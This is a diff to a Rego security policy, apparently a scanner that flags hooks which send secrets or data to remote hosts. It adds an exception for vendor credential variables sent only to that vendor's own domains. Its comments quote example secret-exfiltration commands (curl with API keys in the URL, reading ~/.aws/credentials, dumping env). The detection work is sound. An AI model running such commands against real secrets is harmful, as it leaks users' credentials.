@@ -49,7 +49,9 @@ violations contains _finding(rego.metadata.rule(), h, "downloads and runs remote
 #   (`curl https://host/?k=$ANTHROPIC_API_KEY`, `curl -H "Authorization: Bearer
 #   $GITHUB_TOKEN"`, `wget --header=...`, an HTTPie item, `$(cat ~/.aws/credentials)`,
 #   `$(env)`): the secret leaves the machine all the same. Requests only to `localhost` or
-#   127.0.0.1 are not reported.
+#   127.0.0.1 are not reported, nor a vendor's own credential variables sent only to that
+#   vendor's hosts (`$GITHUB_TOKEN` to api.github.com, `$ANTHROPIC_API_KEY` to
+#   api.anthropic.com: the upload itself is then AIP164).
 # custom:
 #   id: AIP161
 #   severity: critical
@@ -65,7 +67,7 @@ violations contains _finding(rego.metadata.rule(), h, "downloads and runs remote
 violations contains _finding(rego.metadata.rule(), h, "sends secrets to the network", s) if {
 	some h in _active
 	_sends_out(h)
-	_signal(h, "secret_read")
+	_leaks_secret(h)
 	s := _signal(h, "network_send")
 }
 
@@ -135,7 +137,7 @@ violations contains _finding(rego.metadata.rule(), h, "decodes and runs a hidden
 violations contains _finding(rego.metadata.rule(), h, "sends data to a remote host", s) if {
 	some h in _active
 	_sends_out(h)
-	not _signal(h, "secret_read")
+	not _leaks_secret(h)
 	s := _signal(h, "network_send")
 }
 
@@ -395,6 +397,42 @@ _signal(h, kind) := found[0] if {
 }
 
 # The hook sends data and names no host, or some host that is not this machine.
+# The hook reads a secret and it may leave for someone else: not only a vendor's own
+# credential variables sent to that vendor's hosts (`$GITHUB_TOKEN` to api.github.com).
+_leaks_secret(h) if {
+	_signal(h, "secret_read")
+	not _own_vendor_only(h)
+}
+
+_own_vendor_only(h) if {
+	count(h.hosts) > 0
+	reads := [s | some s in h.signals; s.kind == "secret_read"]
+	every s in reads {
+		s.pattern == "secret_variable"
+		domain := _vendor_domain(trim(s.excerpt, "${}"))
+		every host in h.hosts {
+			_under(lower(host), domain)
+		}
+	}
+}
+
+_under(host, domain) if host == domain
+
+_under(host, domain) if endswith(host, concat("", [".", domain]))
+
+# Credential variable prefix -> the vendor's domain (the variable's own API).
+_vendor_domains := {
+	"GITHUB_": "github.com", "GH_": "github.com", "GITLAB_": "gitlab.com",
+	"ANTHROPIC_": "anthropic.com", "OPENAI_": "openai.com", "SLACK_": "slack.com",
+	"LINEAR_": "linear.app", "SENTRY_": "sentry.io", "HF_": "huggingface.co",
+	"HUGGINGFACE_": "huggingface.co", "DISCORD_": "discord.com", "NPM_": "npmjs.org",
+}
+
+_vendor_domain(name) := domain if {
+	some prefix, domain in _vendor_domains
+	startswith(name, prefix)
+}
+
 _sends_out(h) if {
 	_signal(h, "network_send")
 	_outside(h)
